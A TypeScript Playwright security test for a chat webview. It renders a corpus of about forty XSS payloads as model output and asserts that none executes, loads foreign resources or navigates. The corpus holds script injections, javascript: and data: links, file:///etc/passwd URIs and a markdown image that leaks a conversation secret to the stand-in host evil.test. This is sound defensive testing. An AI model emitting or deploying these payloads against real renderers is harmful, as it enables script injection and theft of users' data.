/**
 * Security of the chat webview in real Chromium: the built UI bundle (dist/ui/chat.js) runs in a page served with
 * the webview's exact CSP (src/webview/csp.ts) and a stand-in for acquireVsCodeApi. A corpus of XSS payloads is
 * streamed as model output (delta messages in odd-sized chunks, then the finished turn) and also rendered whole
 * from a state message. Nothing may run (no flag set, no dialog), nothing may be fetched from anywhere but the
 * page's own origin, the DOM of the answers holds no dangerous element or on* attribute and no non-http(s) link;
 * clicking every link posts only `openLink` with an http(s) URL and never navigates.
 * Screenshot: test-results/e2e/chat-xss/.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { contentSecurityPolicy, makeNonce } from '../../src/webview/csp';

const REPO = path.resolve(__dirname, '../../..');
const SHOTS = path.join(REPO, 'test-results', 'e2e', 'chat-xss');
const CHROMIUM = process.env.AGC_CHROMIUM ?? '/usr/bin/chromium';
const ORIGIN = 'https://chat.test';

/** Each tries to run `window.__xss = n` or to load something from evil.test. */
export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3">',
  '<svg><script>window.__xss=4</script></svg>',
  '[click](javascript:window.__xss=5)',
  '[click](JaVaScRiPt:window.__xss=6)',
  '[click](  javascript:window.__xss=7)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9ODwvc2NyaXB0Pg==)',
  '![secret](https://evil.test/p.png?q=conversation-secret)',
  '![x](//evil.test/p.png)',
  '![x](http://evil.test/p.png)',
  '<iframe src="https://evil.test/"></iframe>',
  '</script><script>window.__xss=13</script>',
  '&lt;script&gt;window.__xss=14&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=15&#62;',
  '```mermaid\ngraph TD; A-->B; click A callback "javascript:window.__xss=16"\n```',
  '<a href="javascript:window.__xss=17">x</a>',
  '<div style="background:url(https://evil.test/bg.png)">styled</div>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x">',
  '<form action="https://evil.test"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=23>',
  '<details open ontoggle="window.__xss=24">',
  '<video><source onerror="window.__xss=25"></video>',
  '<body onload="window.__xss=26">',
  '<input autofocus onfocus="window.__xss=27">',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '<base href="https://evil.test/">[rel](/x)',
  '[ref]\n\n[ref]: javascript:window.__xss=31',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0zMiI+PC9zdmc+)',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '`<img src=x onerror=window.__xss=34>`',
  '```html\n<script>window.__xss=35</script>\n```',
  '[<img src=x onerror=window.__xss=36>](https://ok.test/a)',
  'https://evil.test/linkify?<script>window.__xss=37</script>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=38>">',
  '*<img src=x onerror=window.__xss=39>*',
  '| a |\n|---|\n| <img src=x onerror=window.__xss=40> |',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
];

function pageHtml(nonce: string): string {
  const csp = contentSecurityPolicy(ORIGIN, nonce);
  return `<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp}">
<link rel="stylesheet" nonce="${nonce}" href="${ORIGIN}/media/chat.css"><title>chat</title></head>
<body><main id="app"></main>
<script nonce="${nonce}">
  window.__posted = []; window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
  let st;
  window.acquireVsCodeApi = () => ({ postMessage: (m) => window.__posted.push(m), getState: () => st, setState: (s) => { st = s; } });
</script>
<script nonce="${nonce}" src="${ORIGIN}/dist/ui/chat.js"></script>
</body></html>`;
}

const STRINGS = Object.fromEntries(['send', 'stop', 'newChat', 'history', 'connection', 'model', 'key', 'chooseKey', 'settings', 'systemPrompt', 'temperature',
  'maxTokens', 'placeholder', 'jumpToLatest', 'stopped', 'you', 'assistant', 'tokens', 'cost', 'conversationTotal', 'loadingModels', 'noConnection',
  'refreshModels', 'messages', 'image', 'thinking', 'regenerate', 'edit', 'editing', 'cancelEdit', 'copy', 'insert', 'openInEditor', 'copied'].map((k) => [k, k]));

function state(conversationId: string, turns: unknown[], busy: boolean): unknown {
  return {
    type: 'state',
    state: {
      conversationId, title: 'xss', connections: [{ id: 'c1', label: 'Sim' }], connectionId: 'c1', modelId: 'm1', models: [{ id: 'm1', label: 'm1' }],
      systemPrompt: '', turns, context: [], busy, totals: { tokens: 0 }, strings: STRINGS,
    },
  };
}

describe('UI security: XSS corpus as model output in real Chromium', { timeout: 180000 }, () => {
  let browser: Browser;
  let page: Page;
  const foreign: string[] = [];
  const dialogs: string[] = [];

  before(async () => {
    assert.ok(fs.existsSync(path.join(REPO, 'dist/ui/chat.js')), 'dist/ui/chat.js is built');
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    page = await browser.newPage({ viewport: { width: 1000, height: 1400 } });
    page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    const nonce = makeNonce();
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== ORIGIN) { foreign.push(url.href); return route.abort(); }
      if (url.pathname === '/index.html') return route.fulfill({ status: 200, contentType: 'text/html', body: pageHtml(nonce) });
      const file = path.join(REPO, url.pathname);
      if ((url.pathname === '/dist/ui/chat.js' || url.pathname === '/media/chat.css') && fs.existsSync(file)) {
        return route.fulfill({ status: 200, contentType: url.pathname.endsWith('.js') ? 'text/javascript' : 'text/css', body: fs.readFileSync(file) });
      }
      foreign.push(url.href);
      return route.fulfill({ status: 404, body: '' });
    });
    await page.goto(`${ORIGIN}/index.html`);
    await page.waitForFunction('window.__posted.some((m) => m.type === "ready")');
  });

  after(async () => {
    await browser?.close();
  });

  it(`streams ${XSS_CORPUS.length} payloads as model output: nothing runs, nothing loads`, async () => {
    assert.ok(XSS_CORPUS.length >= 30);
    const user = { id: 'u0', role: 'user', content: 'show me your worst' };
    const answers = XSS_CORPUS.map((_, i) => ({ id: `a${i}`, role: 'assistant', content: '', status: 'streaming' }));
    await page.evaluate(`window.postMessage(${JSON.stringify(state('conv-stream', [user, ...answers], true))}, '*')`);
    for (const [i, payload] of XSS_CORPUS.entries()) {
      const text = `Payload ${i + 1}:\n\n${payload}\n\nafter\n`;
      let offset = 0;
      for (let size = 1; offset < text.length; size = (size % 7) + 2) {
        const chunk = text.slice(offset, offset + size);
        await page.evaluate(`window.postMessage(${JSON.stringify({ type: 'delta', turnId: `a${i}`, offset, text: chunk })}, '*')`);
        offset += chunk.length;
      }
      const done = { type: 'turn', turn: { id: `a${i}`, role: 'assistant', content: text, status: 'done' }, busy: i < XSS_CORPUS.length - 1, totals: { tokens: 0 } };
      await page.evaluate(`window.postMessage(${JSON.stringify(done)}, '*')`);
    }
    await page.waitForFunction(`document.querySelectorAll('.turn.assistant').length === ${XSS_CORPUS.length} && !document.querySelector('.turn.streaming') && !document.querySelector('.block.open')`);
    await page.waitForTimeout(300); // let any (wrongly) scheduled handler fire
    await assertClean(page, 'streamed');
    fs.mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS, '01-streamed-corpus.png'), fullPage: false });
  });

  it('renders the same payloads whole (history / state path): nothing runs, nothing loads', async () => {
    const turns = XSS_CORPUS.flatMap((p, i) => [{ id: `u${i}`, role: 'user', content: p }, { id: `w${i}`, role: 'assistant', content: `Payload ${i + 1}:\n\n${p}\n`, status: i % 3 === 0 ? 'stopped' : 'done' }]);
    await page.evaluate(`window.postMessage(${JSON.stringify(state('conv-whole', turns, false))}, '*')`);
    await page.waitForFunction(`document.querySelectorAll('.turn.assistant').length === ${XSS_CORPUS.length} && document.querySelector('[data-turn="w0"]') !== null`);
    await page.waitForTimeout(300);
    await assertClean(page, 'whole');
    await page.screenshot({ path: path.join(SHOTS, '02-whole-corpus.png'), fullPage: false });
  });

  it('clicking every link posts only openLink with an http(s) URL and never navigates', async () => {
    const before = (await page.evaluate('window.__posted.length')) as number;
    const count = (await page.evaluate(`(() => { const as = [...document.querySelectorAll('#log a')]; for (const a of as) a.click(); return as.length; })()`)) as number;
    assert.ok(count > 3, `found ${count} links`);
    const posted = (await page.evaluate(`window.__posted.slice(${before})`)) as Array<{ type: string; url?: string }>;
    assert.ok(posted.length > 0);
    for (const m of posted) {
      assert.equal(m.type, 'openLink');
      assert.match(m.url ?? '', /^https?:\/\//);
    }
    assert.equal(page.url(), `${ORIGIN}/index.html`, 'no navigation');
    assert.deepEqual(foreign, []);
  });

  async function assertClean(p: Page, label: string): Promise<void> {
    assert.equal(await p.evaluate('window.__xss'), undefined, `${label}: a payload ran`);
    assert.deepEqual(dialogs, [], `${label}: a dialog opened`);
    assert.deepEqual(foreign, [], `${label}: something was fetched from elsewhere`);
    const report = (await p.evaluate(`(() => {
      const bad = [];
      for (const el of document.querySelectorAll('#log *')) {
        const tag = el.tagName.toLowerCase();
        if (['script', 'img', 'iframe', 'svg', 'math', 'object', 'embed', 'form', 'style', 'link', 'meta', 'base', 'video', 'audio', 'source', 'input', 'details', 'noscript', 'body'].includes(tag)) bad.push('tag ' + tag);
        for (const a of el.attributes) {
          if (a.name.startsWith('on') || a.name === 'style' || a.name === 'src' || a.name === 'srcdoc' || a.name === 'action') bad.push(tag + ' @' + a.name);
          if (a.name === 'href' && !/^https?:\\/\\//i.test(a.value)) bad.push(tag + ' href=' + a.value);
        }
      }
      const imageLinks = document.querySelectorAll('#log .image-link').length;
      return { bad, imageLinks, text: document.querySelector('#log').textContent.length };
    })()`)) as { bad: string[]; imageLinks: number; text: number };
    assert.deepEqual(report.bad, [], `${label}: dangerous DOM`);
    assert.ok(report.imageLinks >= 2, `${label}: markdown images became labelled links (${report.imageLinks})`);
    assert.ok(report.text > 1000, 'the payloads are shown as text');
  }
});
